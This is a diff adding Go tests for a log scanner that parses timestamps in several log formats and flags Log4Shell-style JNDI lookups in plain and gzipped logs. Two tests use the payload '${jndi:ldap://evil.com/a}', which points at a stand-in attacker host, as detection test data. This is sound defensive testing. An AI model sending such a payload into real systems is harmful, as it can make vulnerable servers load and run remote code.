@@ -0,0 +1,81 @@
+// Copyright © 2021 Joel Baranick <jbaranick@gmail.com>
+// SPDX-License-Identifier: Apache-2.0
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at:
+//
+// 	  http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package lib
+
+import (
+	"compress/gzip"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestParseTimestamp(t *testing.T) {
+	s := &logScanner{now: time.Date(2026, time.October, 19, 12, 0, 0, 0, time.Local)}
+	tests := []struct {
+		line     string
+		expected time.Time
+	}{
+		{"2026-10-18T10:00:00Z GET /", time.Date(2026, time.October, 18, 10, 0, 0, 0, time.UTC)},
+		{"2026-10-18 10:00:00,123 ERROR", time.Date(2026, time.October, 18, 10, 0, 0, 123000000, time.Local)},
+		{"2026-10-18T10:00:00.5+02:00 GET /", time.Date(2026, time.October, 18, 8, 0, 0, 500000000, time.UTC)},
+		{"1.2.3.4 - - [18/Oct/2026:10:00:00 +0200] \"GET / HTTP/1.1\"", time.Date(2026, time.October, 18, 8, 0, 0, 0, time.UTC)},
+		{"Oct 19 11:00:00 host app: GET /", time.Date(2026, time.October, 19, 11, 0, 0, 0, time.Local)},
+		{"Jan  2 03:04:05 host app: GET /", time.Date(2026, time.January, 2, 3, 4, 5, 0, time.Local)},
+		{"Dec 10 08:00:00 host app: GET /", time.Date(2025, time.December, 10, 8, 0, 0, 0, time.Local)},
+		{"Oct 19 13:00:00 host app: GET /", time.Date(2025, time.October, 19, 13, 0, 0, 0, time.Local)},
+	}
+	for _, test := range tests {
+		actual := s.parseTimestamp(test.line)
+		if actual == nil {
+			t.Errorf("%s: expected %s, got none", test.line, test.expected)
+		} else if !actual.Equal(test.expected) {
+			t.Errorf("%s: expected %s, got %s", test.line, test.expected, actual)
+		}
+	}
+	if actual := s.parseTimestamp("GET /?q=${jndi:ldap://evil.com/a}"); actual != nil {
+		t.Errorf("expected no timestamp, got %s", actual)
+	}
+}
+
+func TestScanGzipLog(t *testing.T) {
+	filename := filepath.Join(t.TempDir(), "access.log.gz")
+	f, err := os.Create(filename)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := gzip.NewWriter(f)
+	if _, err := w.Write([]byte("2026-10-18T10:00:00Z GET /\n2026-10-18T10:00:01Z GET /?q=${jndi:ldap://evil.com/a}\n")); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.Close(); err != nil {
+		t.Fatal(err)
+	}
+	s := &logScanner{now: time.Now()}
+	findings, err := s.scanFile("access.log.gz", filename)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(findings) != 1 {
+		t.Fatalf("expected 1 finding, got %d", len(findings))
+	}
+	if findings[0].Line != 2 || findings[0].Host != "evil.com" {
+		t.Errorf("expected evil.com on line 2, got %s on line %d", findings[0].Host, findings[0].Line)
+	}
+}